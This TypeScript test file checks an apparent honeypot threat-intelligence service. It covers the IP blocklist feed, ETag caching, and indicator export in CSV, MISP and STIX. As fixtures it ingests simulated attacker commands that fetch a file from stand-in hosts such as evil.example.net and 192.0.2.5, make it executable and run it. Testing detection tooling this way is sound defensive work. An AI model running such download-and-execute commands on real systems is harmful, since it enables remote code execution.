import type { Indicator, IngestOne } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'

describe.each(inject('postgresServers'))('indicator feeds on $version', (server) => {
  let api: TestPlatform
  let token: string
  let key: string
  let session: string
  beforeAll(async () => {
    api = await startTestPlatform(server)
    token = await api.login()
    const created = await api.call('/api-keys', {
      method: 'POST',
      as: token,
      body: JSON.stringify({ name: 'firewall', scopes: ['feeds:read'] }),
    })
    key = ((await created.json()) as { key: string }).key
    const attack = await send(
      '203.0.113.1',
      `wget "http://evil.example.net/a'b.sh"; chmod 777 x; ./x; curl http://192.0.2.5/y`,
    )
    session = attack.session_id
    await send('2001:db8::7', 'wget http://192.0.2.5/y; chmod 777 x; ./x')
    await send('203.0.113.9', 'uptime')
  })
  afterAll(() => api.close())

  async function send(source_ip: string, command: string): Promise<IngestOne> {
    const response = await api.send(
      JSON.stringify({ source_ip, session: 's', occurred_at: new Date().toISOString(), command }),
    )
    return (await response.json()) as IngestOne
  }
  const get = (path: string, headers: Record<string, string> = {}, as = key) =>
    api.call(path, { as, headers })

  test('the blocklist is plain addresses of grave sessions, for a key of its own', async () => {
    const response = await get('/feeds/blocklist.txt')
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8')
    expect(await response.text()).toBe('2001:db8::7\n203.0.113.1\n')
    expect(await (await get('/feeds/blocklist.txt?threat_level=low')).text()).toContain('203.0.113.9\n')
    expect((await get('/feeds/blocklist.txt', {}, 'a-sensor-key-for-tests')).status).toBe(403)
    expect((await api.call('/feeds/blocklist.txt')).status).toBe(401)
  })

  test('who has the content already is told so, until it changes', async () => {
    const etag = (await get('/feeds/blocklist.txt')).headers.get('etag') ?? ''
    const again = await get('/feeds/blocklist.txt', { 'if-none-match': etag })
    expect([again.status, await again.text()]).toEqual([304, ''])
    await send('203.0.113.2', 'wget http://192.0.2.5/y; chmod 777 x; ./x')
    expect((await get('/feeds/blocklist.txt', { 'if-none-match': etag })).status).toBe(200)
  })

  test('a session tells its indicators, in four formats', async () => {
    const items = ((await (await get(`/sessions/${session}/iocs`)).json()) as { items: Indicator[] }).items
    expect(items.map(({ type, value }) => [type, value])).toEqual([
      ['ipv4-addr', '203.0.113.1'],
      ['url', 'http://evil.example.net/a'],
      ['domain-name', 'evil.example.net'],
      ['url', 'http://192.0.2.5/y'],
      ['ipv4-addr', '192.0.2.5'],
    ])
    const csv = await get(`/sessions/${session}/iocs?format=csv`)
    expect(await csv.text()).toMatch(
      /^type,value,first_seen_at,last_seen_at,threat_level\r\n"ipv4-addr","203\.0\.113\.1",/,
    )
    const misp = (await (await get(`/sessions/${session}/iocs?format=misp`)).json()) as {
      Event: { threat_level_id: string; Attribute: object[] }
    }
    expect(misp.Event.threat_level_id).toBe('1')
    expect(misp.Event.Attribute).toHaveLength(5)
  })

  test('the STIX bundle is well-formed, and an indicator is the same object in every bundle', async () => {
    const response = await get('/feeds/stix')
    expect(response.headers.get('content-type')).toContain('application/stix+json')
    const bundle = (await response.json()) as {
      objects: Array<{ id: string; type: string; pattern?: string }>
    }
    const patterns = bundle.objects.flatMap(({ pattern }) => pattern ?? [])
    expect(patterns).toEqual(
      expect.arrayContaining([
        "[ipv4-addr:value = '203.0.113.1']",
        "[ipv6-addr:value = '2001:db8::7']",
        "[url:value = 'http://192.0.2.5/y']",
      ]),
    )
    const ofSession = (await (await get(`/sessions/${session}/iocs?format=stix`)).json()) as typeof bundle
    const ids = new Set(bundle.objects.map(({ id }) => id))
    expect(ofSession.objects.every(({ id }) => ids.has(id))).toBe(true)
    for (const { id, type } of bundle.objects) expect(id).toMatch(new RegExp(`^${type}--[0-9a-f-]{36}$`))
  })
})
